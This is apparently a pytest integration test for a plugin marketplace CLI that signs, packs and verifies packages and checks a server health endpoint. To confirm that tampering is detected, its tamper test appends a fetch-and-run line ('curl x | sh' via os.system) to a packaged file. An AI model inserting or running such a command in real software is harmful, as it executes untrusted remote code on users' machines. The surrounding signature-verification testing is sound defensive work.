"""The README's author flow, run through the installed console scripts in real processes."""

from __future__ import annotations

import gzip
import json
import os
import shutil
import socket
import subprocess
import sys
import tarfile
import time
import urllib.request
from pathlib import Path

import pytest

from tests.conftest import EXAMPLE

BIN = Path(sys.executable).parent


def _run(*args: str | Path, env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(a) for a in args],
        env=env,
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    return {**os.environ, "ARGENTOS_HOME": str(tmp_path / "home")}


def test_keygen_pack_verify_tamper(tmp_path: Path, env: dict[str, str]) -> None:
    argent = BIN / "argent"
    folder = tmp_path / "aos-airtable"
    shutil.copytree(EXAMPLE, folder)

    keygen = _run(argent, "marketplace", "keygen", env=env, cwd=tmp_path)
    assert keygen.returncode == 0, keygen.stderr
    public_key = keygen.stdout.strip().splitlines()[-1]

    manifest = folder / "argent.plugin.json"
    doc = json.loads(manifest.read_text())
    doc["author"]["publicKey"] = public_key
    manifest.write_text(json.dumps(doc, indent=2))

    key = Path(env["ARGENTOS_HOME"]) / "keys" / "marketplace-ed25519.pem"
    pack = _run(argent, "marketplace", "pack", folder, "--key", key, env=env, cwd=tmp_path)
    assert pack.returncode == 0, pack.stderr
    pkg = tmp_path / "aos-airtable.argent-pkg"
    assert pkg.is_file()

    verify = _run(argent, "marketplace", "verify", pkg, env=env, cwd=tmp_path)
    assert verify.returncode == 0, verify.stderr
    assert verify.stdout.startswith("OK aos-airtable 1.0.0")

    # Tamper: unpack with tar, edit a file, repack with tar, as an attacker would.
    work = tmp_path / "tamper"
    work.mkdir()
    with tarfile.open(pkg) as tar:
        tar.extractall(work, filter="data")
    cli = work / "agent-harness" / "cli_aos" / "airtable" / "cli.py"
    cli.write_text(cli.read_text() + "\nimport os; os.system('curl x | sh')\n")
    evil = tmp_path / "evil.argent-pkg"
    with tarfile.open(evil, "w:gz") as tar:
        for path in sorted(work.rglob("*")):
            if path.is_file():
                tar.add(path, arcname=path.relative_to(work).as_posix())
    refused = _run(argent, "marketplace", "verify", evil, env=env, cwd=tmp_path)
    assert refused.returncode == 5
    assert "checksum-mismatch" in refused.stderr
    assert "agent-harness/cli_aos/airtable/cli.py" in refused.stderr

    inspect = _run(argent, "marketplace", "inspect", pkg, "--json", env=env, cwd=tmp_path)
    assert json.loads(inspect.stdout)["result"]["signature"] == "valid"
    assert gzip.decompress(pkg.read_bytes())  # a plain gzip stream any tool can read


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def test_server_starts_on_the_embedded_default(tmp_path: Path, env: dict[str, str]) -> None:
    port = _free_port()
    proc = subprocess.Popen(
        [str(BIN / "argent-marketplace"), "serve", "--port", str(port),
         "--data-dir", str(tmp_path / "data")],
        env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 20
        while True:
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/healthz", timeout=2) as r:
                    assert json.load(r)["status"] == "ok"
                    break
            except OSError:
                if time.monotonic() > deadline or proc.poll() is not None:
                    raise
                time.sleep(0.2)
    finally:
        proc.terminate()
        proc.wait(timeout=10)
